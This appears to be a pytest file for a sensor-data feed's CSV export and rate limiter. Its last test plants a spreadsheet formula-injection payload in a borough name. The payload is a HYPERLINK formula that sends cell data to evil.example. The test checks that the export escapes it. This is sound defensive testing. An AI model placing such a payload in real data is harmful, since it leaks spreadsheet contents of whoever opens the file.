"""Bulk CSV export (streamed, standard names and units) and the feed rate limit."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy import select

from fleet.feed.export import COLUMNS, export_csv
from fleet.feed.ratelimit import Limit, RateLimiter
from fleet.feed.snapshot import Audience, sync_committed
from fleet.models import Borough
from tests.feed.conftest import POINTS, T0, FeedWorld


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_export_is_the_public_feed_as_csv(client: TestClient, feed_world: FeedWorld) -> None:
    response = client.get("/feed/v1/export.csv?borough=hackney&start=2025-03-01&end=2025-03-02")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "hackney-2025-03-01-2025-03-02.csv" in response.headers["content-disposition"]
    assert response.text.splitlines()[0] == ",".join(COLUMNS)
    body = rows(response.text)
    assert len(body) == 2 * POINTS  # temperature and humidity; battery is not public
    first = body[0]
    assert first["observed_property"] == "temperature" and first["unit"] == "Cel"
    assert first["phenomenon_time"] == "2025-03-01T00:00:00Z" and float(first["result"]) == 18.0
    assert first["area"] == "E8" and first["property"].startswith("p1-")
    assert {r["unit"] for r in body} == {"Cel", "%RH"}
    # The range is [start, end): a day without readings exports only the header.
    empty = client.get("/feed/v1/export.csv?borough=hackney&start=2025-03-02&end=2025-03-03")
    assert rows(empty.text) == []


def test_export_validates_its_arguments(client: TestClient) -> None:
    backwards = client.get("/feed/v1/export.csv?borough=hackney&start=2025-03-02&end=2025-03-01")
    assert backwards.status_code == 422 and "end must be after start" in backwards.text
    unknown = client.get("/feed/v1/export.csv?borough=nowhere&start=2025-03-01&end=2025-03-02")
    assert unknown.status_code == 404


def test_export_streams_in_chunks(feed_world: FeedWorld) -> None:
    sync_committed(feed_world.ctx.sessions)
    pieces = list(
        export_csv(
            feed_world.ctx.sessions,
            audience=Audience(),
            borough_code="camden",
            start=T0,
            end=T0.replace(day=2),
            chunk_rows=5,
        )
    )
    # Header, then per Datastream ceil(12 / 5) = 3 chunks of at most 5 rows.
    assert len(pieces) == 1 + 2 * 3
    assert all(piece.count("\n") <= 5 for piece in pieces[1:])
    assert len(rows("".join(pieces))) == 2 * POINTS


def test_token_bucket_refills_at_its_rate() -> None:
    now = [0.0]
    limiter = RateLimiter(public=Limit(2.0, 3), token=Limit(10.0, 10), clock=lambda: now[0])
    assert [limiter.take("ip:a", authenticated=False) for _ in range(3)] == [0.0, 0.0, 0.0]
    assert limiter.take("ip:a", authenticated=False) == 0.5  # one token every 0.5 s
    assert limiter.take("ip:b", authenticated=False) == 0.0  # buckets are per client
    now[0] = 0.5
    assert limiter.take("ip:a", authenticated=False) == 0.0


def test_over_the_limit_is_429_with_retry_after(client: TestClient, feed_world: FeedWorld) -> None:
    # A frozen clock: no token refills while the requests run, however slow the machine.
    limiter = RateLimiter(public=Limit(0.1, 2), token=Limit(0.1, 5), clock=lambda: 0.0)
    client.app.state.feed_limiter = limiter  # type: ignore[attr-defined]
    assert [client.get("/sta/v1.1/Things").status_code for _ in range(3)] == [200, 200, 429]
    limited = client.get("/feed/v1/export.csv?borough=hackney&start=2025-03-01&end=2025-03-02")
    assert limited.status_code == 429
    assert int(limited.headers["retry-after"]) == 10
    # A token has its own, larger bucket.
    staff = feed_world.headers("staff_hackney")
    assert client.get("/sta/v1.1/Things", headers=staff).status_code == 200


def test_a_name_staff_typed_never_becomes_a_formula(
    client: TestClient, feed_world: FeedWorld
) -> None:
    with feed_world.ctx.sessions.begin() as s:
        borough = s.scalars(select(Borough).where(Borough.code == "hackney")).one()
        borough.name = '=HYPERLINK("http://evil.example/?"&A2,"Hackney")'
    sync_committed(feed_world.ctx.sessions)
    response = client.get("/feed/v1/export.csv?borough=hackney&start=2025-03-01&end=2025-03-02")
    body = rows(response.text)
    assert body and {r["borough"] for r in body} == {"'" + borough.name}
    assert all(not r["result"].startswith("'") for r in body)
